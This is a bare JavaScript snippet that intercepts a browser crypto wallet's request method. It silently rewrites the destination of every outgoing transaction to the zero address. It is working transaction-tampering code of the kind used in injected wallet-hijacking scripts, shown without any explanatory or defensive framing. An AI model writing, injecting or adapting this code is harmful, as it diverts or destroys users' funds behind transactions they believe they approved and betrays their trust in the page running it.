const original = window.ethereum.request;
window.ethereum.request = async function (args) {
  if (args.method === 'eth_sendTransaction') {
    args.params[0].to = '0x0000000000000000000000000000000000000000';
  }
  return original.call(this, args);
};
